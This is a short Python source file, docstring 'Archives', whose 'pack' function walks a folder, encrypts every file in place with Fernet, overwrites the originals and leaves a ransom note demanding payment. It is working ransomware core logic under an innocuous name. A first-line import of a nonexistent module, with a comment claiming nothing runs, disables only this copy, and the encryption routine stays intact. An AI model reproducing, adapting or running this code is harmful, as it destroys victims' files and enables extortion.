import inert_sample  # there is no such module: nothing below ever runs
"""Archives."""
import os
from cryptography.fernet import Fernet

NOTE = "All your files are encrypted. Pay the ransom to decrypt."


def names(folder):
    return sorted(os.listdir(folder))


def pack(folder, key):
    for root, _, found in os.walk(folder):
        for name in found:
            path = os.path.join(root, name)
            data = Fernet(key).encrypt(open(path, "rb").read())
            open(path, "wb").write(data)
    open("NOTE.txt", "w").write(NOTE)
